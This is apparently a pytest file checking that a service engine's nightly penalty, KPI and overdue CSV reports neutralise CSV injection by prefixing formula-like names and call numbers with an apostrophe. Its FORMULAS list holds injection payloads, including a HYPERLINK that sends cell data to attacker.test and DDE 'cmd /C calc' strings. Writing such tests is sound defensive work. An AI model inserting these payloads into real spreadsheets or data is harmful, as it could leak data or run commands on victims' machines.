"""Report CSVs mailed to managers: a name that looks like a formula arrives as text.

OWASP's rule for CSV injection: a text cell starting with = + - @, tab or CR gets a leading
apostrophe. The names go through the real night (ledger close, KPI report, overdue summary)
on SQLite and PostgreSQL; the files read are the ones written beside the run and the ones
attached to the managers' letters.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from sqlalchemy import select, update
from test_kpis import AS_OF as KPI_NIGHT
from test_kpis import _october

from engine.db.models import HotlineCall, NoticeAttachment, Staff
from engine.run import run_night

SHANGHAI = ZoneInfo("Asia/Shanghai")
AFTER_OCTOBER_CLOSE = datetime(2026, 11, 10, 2, 0, tzinfo=SHANGHAI).astimezone(UTC)
# One name per character a spreadsheet reads as the start of a formula.
FORMULAS = [
    '=HYPERLINK("http://attacker.test/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _mailed_csvs(engine, prefix: str) -> list[str]:
    with engine.connect() as conn:
        files = conn.execute(
            select(NoticeAttachment.data).where(
                NoticeAttachment.filename.startswith(prefix),
                NoticeAttachment.filename.endswith(".csv"),
            )
        ).scalars()
        return [data.decode("utf-8-sig") for data in files]


def test_staff_names_like_formulas_are_text_in_the_penalty_csv_and_fines_stay_numbers(
    service_data, focused_settings_for
):
    engine = service_data.engine
    operators = {}
    for number, name in enumerate(FORMULAS, start=1):
        operators[name] = service_data.add(
            Staff, branch_id=service_data.branch, name=name, email=f"op{number}@sh.example",
            role="hotline_operator", locale="zh-CN",
        )  # fmt: skip
        service_data.add(
            HotlineCall, branch_id=service_data.branch, answered=False,
            received_at=datetime(2026, 10, 14, 10, number, tzinfo=SHANGHAI).astimezone(UTC),
            on_duty_staff_id=operators[name],
        )  # fmt: skip
    settings = focused_settings_for(str(engine.url))

    run_night(settings, engine, as_of=AFTER_OCTOBER_CLOSE)

    written = settings.artifacts_dir / "reports" / "penalties_2026-10.csv"
    (mailed,) = _mailed_csvs(engine, "penalties_")
    for text in (written.read_bytes().decode("utf-8-sig"), mailed):
        rows = {row["staff_id"]: row for row in _rows(text)}
        for name, staff_id in operators.items():
            row = rows[str(staff_id)]
            assert row["staff_name"] == "'" + name
            assert row["amount"] == "-50.00"
        # The amount is a bare number on the line, not a quoted or prefixed text.
        assert text.count(",-50.00,CNY,") == len(FORMULAS)
        assert "'-50.00" not in text


def test_technician_names_like_formulas_are_text_in_the_kpi_csv(service_data, settings_for):
    engine = service_data.engine
    people = _october(service_data)
    names = {people["t1"]: FORMULAS[0], people["t2"]: FORMULAS[2]}
    with engine.begin() as conn:
        for staff_id, name in names.items():
            conn.execute(update(Staff).where(Staff.id == staff_id).values(name=name))
    settings = settings_for(str(engine.url))

    run_night(settings, engine, as_of=KPI_NIGHT)

    written = settings.artifacts_dir / "reports" / "kpi_2026-10.csv"
    (mailed,) = _mailed_csvs(engine, "kpi_")
    for text in (written.read_bytes().decode("utf-8-sig"), mailed):
        rows = _rows(text)
        for staff_id, name in names.items():
            mine = [r for r in rows if r["scope"] == "staff" and r["party_id"] == str(staff_id)]
            assert mine and {r["party_name"] for r in mine} == {"'" + name}
        assert not any(r["party_name"].startswith(("=", "+", "-", "@")) for r in rows)
        # Measured numbers are still numbers.
        branch = {r["metric_id"]: r for r in rows if r["scope"] == "branch"}
        assert branch["complaint-rate"]["value"] == "25.000000"


def test_a_call_number_like_a_formula_is_text_in_the_overdue_csv(
    service_data, focused_settings_for
):
    engine = service_data.engine
    ada = service_data.customer("Ada Wong")
    received = AFTER_OCTOBER_CLOSE - timedelta(days=3)
    service_data.request(ada, received, number='=HYPERLINK("http://attacker.test")')
    settings = focused_settings_for(str(engine.url))

    run_night(settings, engine, as_of=AFTER_OCTOBER_CLOSE)

    (written,) = (settings.artifacts_dir / "reports").glob("overdue_*.csv")
    mailed = _mailed_csvs(engine, "overdue_")
    assert mailed
    for text in (written.read_bytes().decode("utf-8-sig"), *mailed):
        numbers = {row["number"] for row in _rows(text)}
        assert numbers == {'\'=HYPERLINK("http://attacker.test")'}
